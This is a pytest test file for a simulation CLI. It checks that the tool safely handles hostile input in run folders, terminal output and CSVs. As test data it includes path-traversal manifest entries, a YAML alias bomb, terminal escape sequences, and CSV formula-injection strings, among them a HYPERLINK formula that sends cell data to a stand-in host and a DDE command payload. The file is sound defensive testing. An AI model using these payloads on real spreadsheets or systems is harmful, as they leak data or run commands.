"""Issue 14: trust nothing that comes from outside (CLI, run folders, terminal, spreadsheets).

One test (or one parametrised family) per class of the issue; each failed on the code before the fix:

1. ``--overwrite`` replaces only a folder ptsim wrote, and never loses the old result on the way;
3. a hostile or damaged run folder is refused with a clear ``SimInputError``, never a traceback;
5. names, keys and ``--set`` values are printed literally (no rich markup, no control sequences), and a
   finished run is saved before anything is printed;
6. runs started in the same second get distinct default folders;
7. CSVs never carry a spreadsheet formula.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import sim
from sim.errors import SimInputError
from sim.report import write_report
from tests.conftest import small

ROOT = Path(__file__).resolve().parents[1]
TINY = ["--set", "run.population=400", "--set", "run.days=40"]


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "200"}


@pytest.fixture(scope="module")
def result() -> sim.RunResult:
    """A tiny China run."""
    return sim.run(small("china_in_china", population=400, days=40))


def _cli(args: list[str], cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sim.cli", *args], capture_output=True, text=True, timeout=300,
                          env=_env(), cwd=cwd or ROOT)


def _rehash(folder: Path) -> None:
    """Make the manifest agree with the files (a hostile folder, not an accidentally damaged one)."""
    m = json.loads((folder / "manifest.json").read_text())
    for name in list(m["files"]):
        p = folder / name
        if p.is_file():
            data = p.read_bytes()
            m["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}
    (folder / "manifest.json").write_text(json.dumps(m))


# ---- 1. destructive overwrite ------------------------------------------------------------------------


def test_overwrite_refuses_a_folder_ptsim_did_not_write(tmp_path: Path) -> None:
    """``--out d --overwrite`` on a folder of the user's files: refused, every file kept."""
    mine = tmp_path / "thesis"
    mine.mkdir()
    (mine / "chapter1.docx").write_text("years of work")
    p = _cli(["run", "china_in_china", *TINY, "--out", str(mine), "--overwrite"])
    assert p.returncode == 2, p.stderr
    assert "only replaces a result folder ptsim wrote" in p.stderr and "Traceback" not in p.stderr
    assert (mine / "chapter1.docx").read_text() == "years of work"


def test_overwrite_refuses_the_working_folder(tmp_path: Path) -> None:
    """``--out . --overwrite`` never deletes the folder the user is in."""
    (tmp_path / "notes.txt").write_text("keep me")
    p = _cli(["run", str(ROOT / "scenarios" / "china_in_china.yaml"), *TINY, "--out", ".", "--overwrite"],
             cwd=tmp_path)
    assert p.returncode == 2, p.stderr
    assert (tmp_path / "notes.txt").read_text() == "keep me"


def test_overwrite_refuses_a_result_folder_holding_other_files(result: sim.RunResult, tmp_path: Path) -> None:
    """A result folder the user added a file to is not replaced (the file would be lost)."""
    folder = result.save(tmp_path / "run")
    (folder / "my_notes.md").write_text("notes")
    with pytest.raises(SimInputError, match="my_notes.md"):
        result.save(folder, overwrite=True)
    assert (folder / "my_notes.md").exists()


def test_overwrite_replaces_a_result_folder(result: sim.RunResult, tmp_path: Path) -> None:
    """The ordinary case still works: a run folder is replaced by a new one."""
    folder = result.save(tmp_path / "run")
    result.save(folder, overwrite=True)
    assert sim.load_result(folder).scenario == result.scenario
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_failed_replacement_keeps_the_old_result(result: sim.RunResult, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A write that fails (disk full) while replacing leaves the old result loadable and no temporary behind."""
    import errno

    from sim.results import folders

    folder = result.save(tmp_path / "run")
    real = folders._write_bytes

    def full(path: Path, data: bytes) -> None:
        if path.name == "daily.parquet":
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        real(path, data)

    monkeypatch.setattr(folders, "_write_bytes", full)
    with pytest.raises(OSError) as info:
        result.save(folder, overwrite=True)
    assert info.value.filename == str(folder / "daily.parquet")  # the file the user knows, not a hidden temporary
    assert sim.load_result(folder).scenario == result.scenario
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_kill_between_the_renames_loses_nothing(result: sim.RunResult, tmp_path: Path) -> None:
    """Killed after the old folder was moved aside and before the new one arrived: the next access restores it."""
    folder = result.save(tmp_path / "run")
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    aside = tmp_path / f".run.ptsim-{int(dead.stdout)}-0a1b2c3d.old"
    os.rename(folder, aside)  # the state a kill between the two renames leaves
    assert sim.load_result(folder).scenario == result.scenario
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_reading_a_missing_result_removes_nothing(tmp_path: Path) -> None:
    """Loading a folder that is not there is a read: it leaves every entry beside it (a write tidies them)."""
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)
    partial = tmp_path / f".run.ptsim-{pid}-ab.partial"
    partial.mkdir()
    (partial / "notes.txt").write_text("important")
    tmp = tmp_path / f".run.ptsim-{pid}-cd.tmp"
    tmp.write_text("x")
    not_a_result = tmp_path / f".run.ptsim-{pid}-ef.old"  # named like ptsim's, but holds no result folder
    not_a_result.mkdir()
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(SimInputError, match="no such directory"):
        sim.load_result(tmp_path / "run")
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert (partial / "notes.txt").read_text() == "important"


@pytest.mark.parametrize("link", ["to_a_file", "dangling"])
def test_report_refuses_to_write_through_a_symbolic_link(result: sim.RunResult, tmp_path: Path, link: str) -> None:
    """``ptsim report -o LINK``: writing through it replaced the file it pointed to (or created one elsewhere)."""
    folder = result.save(tmp_path / "run")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    victim = elsewhere / "victim.txt"
    if link == "to_a_file":
        victim.write_text("precious")
    out = tmp_path / "report.html"
    out.symlink_to(victim)
    p = _cli(["report", str(folder), "-o", str(out), "--overwrite"])
    assert p.returncode == 2, p.stderr
    assert "symbolic link" in p.stderr and "Traceback" not in p.stderr
    assert out.is_symlink()
    assert (victim.read_text() == "precious") if link == "to_a_file" else not victim.exists()
    assert sorted(x.name for x in elsewhere.iterdir()) == (["victim.txt"] if link == "to_a_file" else [])


def test_results_get_the_usual_modes_of_new_files(result: sim.RunResult, tmp_path: Path) -> None:
    """A result folder and a report are made like any new folder and file under the umask (they were 0700/0600)."""
    old = os.umask(0o022)
    try:
        folder = result.save(tmp_path / "run")
        report = write_report(result, tmp_path / "r.html")
    finally:
        os.umask(old)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
    assert stat.S_IMODE(report.stat().st_mode) == 0o644


def test_stale_temporaries_of_dead_writers_are_cleaned_and_others_kept(result: sim.RunResult, tmp_path: Path) -> None:
    """Hidden partial folders of a dead ptsim are removed by the next write; nobody else's files are touched."""
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = tmp_path / f".run.ptsim-{int(dead.stdout)}-xyz12345.partial"
    stale.mkdir()
    (stale / "daily.parquet").write_bytes(b"half")
    alive = tmp_path / f".run.ptsim-{os.getppid()}-abc.partial"  # a live process's write in progress
    alive.mkdir()
    foreign = tmp_path / ".run.partial"
    foreign.mkdir()
    result.save(tmp_path / "run")
    assert not stale.exists() and alive.exists() and foreign.exists()


# ---- 3. hostile or damaged run folders ---------------------------------------------------------------

FILES = ["scenario.yaml", "meta.json", "daily.parquet", "flows.parquet", "journeys.parquet", "kpis.csv"]


def _damage(folder: Path, kind: str, tmp_path: Path) -> None:
    name, how = kind.split(":")
    if how == "truncate":
        p = folder / name
        p.write_bytes(p.read_bytes()[: max(1, p.stat().st_size // 3)])
    elif how == "garbage":
        (folder / name).write_bytes(os.urandom(200))
    elif how == "missing":
        (folder / name).unlink()
    elif how == "garbage-rehashed":
        (folder / name).write_bytes(b"\x00\xff garbage \x01" * 10)
        _rehash(folder)


DAMAGE = ([f"{n}:{h}" for n in FILES for h in ("truncate", "garbage", "missing")]
          + [f"{n}:garbage-rehashed" for n in FILES if n != "kpis.csv"]
          + ["manifest.json:truncate", "manifest.json:garbage", "manifest.json:missing"])


@pytest.mark.parametrize("kind", DAMAGE)
def test_damaged_run_folder_is_a_clear_error(result: sim.RunResult, tmp_path: Path, kind: str) -> None:
    """Every file truncated, replaced by garbage or missing: a SimInputError naming the file, never a traceback."""
    folder = result.save(tmp_path / "run")
    _damage(folder, kind, tmp_path)
    name = kind.split(":")[0]
    with pytest.raises(SimInputError) as info:
        sim.load_result(folder)
    assert name in str(info.value)


def _hostile(folder: Path, kind: str, tmp_path: Path) -> str:
    """Make ``folder`` hostile in one way; returns a word the error message must contain."""
    m = json.loads((folder / "manifest.json").read_text())
    if kind == "escape":
        secret = tmp_path / "secret.txt"
        secret.write_text("s3cr3t")
        m["files"]["../secret.txt"] = {"sha256": hashlib.sha256(b"s3cr3t").hexdigest(), "bytes": 6}
        (folder / "manifest.json").write_text(json.dumps(m))
        return "outside the folder"
    if kind == "absolute":
        m["files"]["/etc/passwd"] = {"sha256": "0" * 64, "bytes": 1}
        (folder / "manifest.json").write_text(json.dumps(m))
        return "outside the folder"
    if kind == "symlink":
        target = tmp_path / "elsewhere.parquet"
        shutil.copy(folder / "daily.parquet", target)
        (folder / "daily.parquet").unlink()
        (folder / "daily.parquet").symlink_to(target)
        return "symbolic link"
    if kind == "alias-bomb":
        bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
            f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
            for p, c in zip("abcdefgh", "bcdefghi", strict=True))
        (folder / "scenario.yaml").write_text(bomb)
        _rehash(folder)
        return "scenario.yaml"
    if kind == "future-format":
        m["format"] = 99
        (folder / "manifest.json").write_text(json.dumps(m))
        return "newer ptsim"
    if kind == "format-text":
        m["format"] = "one"
        (folder / "manifest.json").write_text(json.dumps(m))
        return "format"
    if kind == "files-list":
        m["files"] = ["daily.parquet"]
        (folder / "manifest.json").write_text(json.dumps(m))
        return "files"
    if kind == "entry-types":
        m["files"]["daily.parquet"] = {"sha256": 5, "bytes": "many"}
        (folder / "manifest.json").write_text(json.dumps(m))
        return "daily.parquet"
    if kind == "meta-list":
        (folder / "meta.json").write_text("[1, 2, 3]")
        _rehash(folder)
        return "meta.json"
    if kind == "meta-types":
        meta = json.loads((folder / "meta.json").read_text())
        meta["seed_members"] = "lots"
        (folder / "meta.json").write_text(json.dumps(meta))
        _rehash(folder)
        return "seed_members"
    if kind == "scenario-invalid":
        (folder / "scenario.yaml").write_text("name: x\nrun: {population: -5}\n")
        _rehash(folder)
        return "scenario.yaml"
    if kind == "daily-columns":
        pd.DataFrame({"day": [0], "brand": ["x"]}).to_parquet(folder / "daily.parquet")
        _rehash(folder)
        return "daily.parquet"
    if kind == "daily-text-numbers":
        d = pd.read_parquet(folder / "daily.parquet")
        d["profit"] = "lots"
        d.to_parquet(folder / "daily.parquet")
        _rehash(folder)
        return "profit"
    if kind == "huge-listed-size":
        m["files"]["daily.parquet"]["bytes"] = 10**15
        (folder / "manifest.json").write_text(json.dumps(m))
        return "daily.parquet"
    if kind == "manifest-deep":  # json's parser recurses: 200,000 brackets was a RecursionError traceback
        (folder / "manifest.json").write_text("[" * 200_000 + "]" * 200_000)
        return "nested too deeply"
    if kind == "manifest-duplicate-key":  # the last value silently won
        text = (folder / "manifest.json").read_text()
        (folder / "manifest.json").write_text(text.replace('"format": 1,', '"format": 99, "format": 1,', 1))
        return "same key twice"
    if kind == "meta-duplicate-key":
        text = (folder / "meta.json").read_text()
        (folder / "meta.json").write_text(text.replace("{", '{"population": -1, ', 1))
        _rehash(folder)
        return "same key twice"
    if kind == "daily-rows-twice":  # every KPI summed over rows counted each day twice
        d = pd.read_parquet(folder / "daily.parquet")
        pd.concat([d, d]).to_parquet(folder / "daily.parquet")
        _rehash(folder)
        return "two rows for the same day"
    if kind == "daily-day-boolean":
        d = pd.read_parquet(folder / "daily.parquet")
        d["day"] = d["day"] % 2 == 0
        d.to_parquet(folder / "daily.parquet")
        _rehash(folder)
        return "whole numbers"
    if kind == "daily-day-far":
        d = pd.read_parquet(folder / "daily.parquet")
        d.loc[d.index[-1], "day"] = 10**12
        d.to_parquet(folder / "daily.parquet")
        _rehash(folder)
        return "must be from 0 to 39"
    raise AssertionError(kind)


HOSTILE = ["escape", "absolute", "symlink", "alias-bomb", "future-format", "format-text", "files-list",
           "entry-types", "meta-list", "meta-types", "scenario-invalid", "daily-columns", "daily-text-numbers",
           "huge-listed-size", "manifest-deep", "manifest-duplicate-key", "meta-duplicate-key", "daily-rows-twice",
           "daily-day-boolean", "daily-day-far"]


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_run_folder_is_refused(result: sim.RunResult, tmp_path: Path, kind: str) -> None:
    """Paths leaving the folder, symlinks, alias bombs, future formats, wrong types: refused with a clear error."""
    folder = result.save(tmp_path / "run")
    word = _hostile(folder, kind, tmp_path)
    with pytest.raises(SimInputError) as info:
        sim.load_result(folder)
    assert word in str(info.value)
    assert "s3cr3t" not in str(info.value) and "bytes, expected" not in str(info.value)


def test_report_on_a_hostile_folder_exits_2_without_traceback(result: sim.RunResult, tmp_path: Path) -> None:
    """``ptsim report`` on a folder whose scenario is an alias bomb: one error line, exit 2, quickly."""
    folder = result.save(tmp_path / "run")
    _hostile(folder, "alias-bomb", tmp_path)
    p = _cli(["report", str(folder), "-o", str(tmp_path / "r.html")])
    assert p.returncode == 2, p.stderr
    assert p.stderr.startswith("error:") and "Traceback" not in p.stderr
    assert not (tmp_path / "r.html").exists()


# ---- 5. terminal markup and escapes ------------------------------------------------------------------

NASTY = ["[/x]", "[link=https://evil.example]click[/link]", "a\x1b[31mred\x1b]0;pwned\x07", "[bold]b", ":smile:"]


@pytest.mark.parametrize("name", NASTY)
def test_names_are_printed_literally_and_the_run_is_saved(name: str, tmp_path: Path) -> None:
    """A brand and scenario name with markup or escapes: exit 0, shown literally, nothing reaches the terminal raw."""
    out = tmp_path / "out"
    quoted = json.dumps(name)  # YAML double-quoted: escapes such as \u001b become the control characters
    p = _cli(["run", "china_in_china", *TINY, "--set", f"name={quoted}", "--set", f"brands.0.name={quoted}",
              "--out", str(out)])
    assert p.returncode == 0, p.stderr
    assert "\x1b" not in p.stdout + p.stderr and "\x07" not in p.stdout + p.stderr
    shown = name.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
    assert shown[:20] in p.stdout
    assert sim.load_result(out).scenario.name == name


def test_markup_in_a_name_does_not_break_the_live_progress_bar() -> None:
    """On a real terminal (a pseudo-terminal) the progress row shows the name literally; it used to crash."""
    import pty

    name = json.dumps("[/x][link=http://e]a\x1b[31m")
    args = [sys.executable, "-m", "sim.cli", "run", "china_in_china", *TINY, "--set", f"name={name}", "--no-save"]
    main, child = pty.openpty()
    proc = subprocess.Popen(args, stdin=child, stdout=child, stderr=child, env=_env(), cwd=ROOT, close_fds=True)
    os.close(child)
    out = b""
    while True:
        try:
            chunk = os.read(main, 4096)
        except OSError:  # the child closed its end
            break
        if not chunk:
            break
        out += chunk
    os.close(main)
    assert proc.wait(timeout=300) == 0, out[-2000:]
    assert b"Traceback" not in out and b"[/x]" in out and b"a\x1b[31m" not in out


def test_markup_in_an_error_message_is_literal(tmp_path: Path) -> None:
    """An unknown key ``[/x]`` in ``--set``: one literal error line and exit 2 (it used to crash rich)."""
    p = _cli(["validate", "china_in_china", "--set", "[/x]=1"])
    assert p.returncode == 2
    assert "[/x]" in p.stderr and "Traceback" not in p.stderr


def test_a_printing_failure_never_loses_the_result(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The run folder is saved before the tables are printed."""
    import sim.cli.run as cli_run

    def broken(res: object) -> None:
        raise BrokenPipeError("terminal went away")

    monkeypatch.setattr(cli_run, "print_run", broken)
    out = tmp_path / "out"
    CliRunner().invoke(sim.cli.app, ["run", "china_in_china", *TINY, "--out", str(out)])
    assert sim.load_result(out).scenario.run.population == 400


# ---- 6. runs started in the same second ----------------------------------------------------------------


def test_runs_started_together_all_save(tmp_path: Path) -> None:
    """Three ``ptsim run`` at once with the default folder: three folders, three exit 0."""
    procs = [subprocess.Popen([sys.executable, "-m", "sim.cli", "run", str(ROOT / "scenarios" / "china_in_china.yaml"),
                               *TINY], cwd=tmp_path, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for _ in range(3)]
    codes = [p.wait(timeout=300) for p in procs]
    assert codes == [0, 0, 0], [p.stderr.read() for p in procs]
    assert len(list((tmp_path / "runs").iterdir())) == 3


def test_unique_save_claims_a_new_name(result: sim.RunResult, tmp_path: Path) -> None:
    """Saving under a taken default name writes NAME-2 instead of failing or replacing."""
    first = result.save(tmp_path / "run", unique=True)
    second = result.save(tmp_path / "run", unique=True)
    assert first.name == "run" and second.name == "run-2"


# ---- 7. formula injection in CSVs ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1,"x")', "@SUM(1+1)", "+1+1", "-1+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_neutralise_frame_quotes_formula_text_and_keeps_numbers() -> None:
    """Text starting like a formula gets a leading quote; numbers (including negative ones) are unchanged."""
    from sim.results.csvsafe import neutralise_frame

    df = pd.DataFrame({"brand": FORMULAS, "profit": [-5.0, 1, 2, 3, 4, 5]}, index=FORMULAS)
    df.columns = ["=brand", "profit"]
    safe = neutralise_frame(df)
    assert all(v.startswith("'") for v in safe["'=brand"])
    assert safe["profit"].tolist() == [-5.0, 1, 2, 3, 4, 5]
    assert all(str(i).startswith("'") for i in safe.index)
    assert df.iloc[0, 0] == FORMULAS[0]  # the caller's frame is untouched


@pytest.mark.parametrize("name", FORMULAS[:4])
def test_run_folder_csv_has_no_formula(name: str, tmp_path: Path) -> None:
    """A brand named like a formula reaches kpis.csv neutralised; the numbers stay numbers."""
    sc = small("china_in_china", population=300, days=20)
    sc = sim.resolve(sc, [f"brands.0.name={name}"]) if "\t" not in name else sc
    folder = sim.run(sc).save(tmp_path / "run")
    text = (folder / "kpis.csv").read_text()
    cells = [c for row in text.splitlines()[1:] for c in row.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
    back = pd.read_csv(folder / "kpis.csv")
    assert back["brand"].iloc[0] == "'" + name
    assert pd.api.types.is_numeric_dtype(back["profit"])


def test_every_csv_written_into_a_result_folder_is_neutralised(tmp_path: Path) -> None:
    """The folder writer itself neutralises CSVs built elsewhere (analysis tables naming brands)."""
    from sim.results.folders import write_folder

    raw = pd.DataFrame({"brand": FORMULAS, "x": range(6)}).to_csv(index=False).encode()
    folder = write_folder(tmp_path / "out", {"t.csv": raw})
    back = pd.read_csv(folder / "t.csv", keep_default_na=False)
    assert [b.lstrip() for b in back["brand"]] == ["'" + f.lstrip() for f in FORMULAS] or all(
        b.startswith("'") for b in back["brand"])
    assert back["x"].tolist() == list(range(6))


# ---- the catalogue names real tests ------------------------------------------------------------------


def test_reliability_catalogue_names_tests_that_exist() -> None:
    """Every ``file::test`` in the README's Reliability section (and docs/RELIABILITY.md) is a real test."""
    import re

    text = (ROOT / "README.md").read_text()
    section = text[text.index("## Reliability"): text.index("## How the code is laid out")].strip().rstrip("-")
    assert section.strip() == (ROOT / "docs" / "RELIABILITY.md").read_text().strip()
    missing = []
    for row in section.splitlines():
        current = None
        for ref in re.findall(r"`([^`]*::[^`]*)`", row):
            if ref == "file::test":  # the legend
                continue
            path, _, name = ref.partition("::")
            if path:
                current = ROOT / (path if path.startswith("tests/") else f"tests/{path}")
            name = name.split("[")[0]
            if name in ("", "..."):  # "file::...[case]": another case of the test named before
                continue
            if current is None or not re.search(rf"^def {re.escape(name)}\(", current.read_text(), re.M):
                missing.append(ref)
    assert not missing, missing


@pytest.mark.parametrize("kind", ["user_file", "fifo"])
def test_report_overwrite_replaces_only_a_report_ptsim_wrote(result: sim.RunResult, tmp_path: Path,
                                                             kind: str) -> None:
    """``--overwrite`` replaced any file, even a pipe (as root, /dev/null): now only a report ptsim wrote."""
    folder = result.save(tmp_path / "run")
    out = tmp_path / "notes.html"
    if kind == "fifo":
        os.mkfifo(out)
    else:
        out.write_text("my thesis")
    p = _cli(["report", str(folder), "-o", str(out), "--overwrite"])
    assert p.returncode == 2, p.stderr
    assert "Traceback" not in p.stderr and ("not written by ptsim" in p.stderr or "not a regular file" in p.stderr)
    assert stat.S_ISFIFO(os.lstat(out).st_mode) if kind == "fifo" else out.read_text() == "my thesis"
    mine = tmp_path / "report.html"
    assert _cli(["report", str(folder), "-o", str(mine)]).returncode == 0
    again = _cli(["report", str(folder), "-o", str(mine), "--overwrite"])  # its own report: replaced
    assert again.returncode == 0, again.stderr


def test_schema_out_never_replaces_a_file_it_did_not_write(tmp_path: Path) -> None:
    """``ptsim schema -o`` replaced any existing file silently; now it needs --overwrite, and then only its own."""
    mine = tmp_path / "s.json"
    mine.write_text("my notes")
    p = _cli(["schema", "-o", str(mine)])
    assert p.returncode == 2 and "already exists" in p.stderr and mine.read_text() == "my notes"
    p = _cli(["schema", "-o", str(mine), "--overwrite"])
    assert p.returncode == 2 and "not written by ptsim" in p.stderr and mine.read_text() == "my notes"
    fresh = tmp_path / "schema.json"
    assert _cli(["schema", "-o", str(fresh)]).returncode == 0
    assert _cli(["schema", "-o", str(fresh), "--overwrite"]).returncode == 0
    assert json.loads(fresh.read_text())["title"] == "Scenario"


@pytest.mark.parametrize("name", ["\r=2+2", "a\rb", "x\r\ny"])
def test_a_carriage_return_in_a_name_keeps_each_csv_row_whole(name: str, tmp_path: Path) -> None:
    """A lone CR in a brand name was written unquoted into kpis.csv: readers split the row in two."""
    import csv

    sc = sim.resolve(small("china_in_china", population=300, days=20), [f"brands.0.name={json.dumps(name)}"])
    folder = sim.run(sc).save(tmp_path / "run")
    rows = list(csv.reader((folder / "kpis.csv").open(newline="")))
    header = rows[0]
    assert all(len(r) == len(header) for r in rows), rows
    brand = rows[1][header.index("brand")]
    assert "\r" not in brand and brand.lstrip("'") == name.replace("\r\n", "\n").replace("\r", "\n")


def test_a_users_folder_named_like_a_leftover_is_not_put_in_place(result: sim.RunResult, tmp_path: Path) -> None:
    """A folder named ``.NAME.ptsim-PID-X.old`` that holds no result is left alone by the next write to NAME."""
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    users = tmp_path / f".run.ptsim-{int(dead.stdout)}-a1.old"
    users.mkdir()
    (users / "mine.txt").write_text("mine")
    folder = result.save(tmp_path / "run")
    assert (users / "mine.txt").read_text() == "mine"
    assert sim.load_result(folder).scenario == result.scenario


def test_a_line_break_in_a_listed_name_cannot_forge_a_line_of_the_message(result: sim.RunResult,
                                                                          tmp_path: Path) -> None:
    """A manifest naming a file with a line break and a fake "wrote ..." line: the error stays one line."""
    folder = result.save(tmp_path / "run")
    m = json.loads((folder / "manifest.json").read_text())
    m["files"]["x\nwrote /tmp/report.html"] = {"sha256": "0" * 64, "bytes": 1}
    (folder / "manifest.json").write_text(json.dumps(m))
    with pytest.raises(SimInputError) as info:
        sim.load_result(folder)
    assert "\n" not in str(info.value) and "x\\nwrote" in str(info.value)
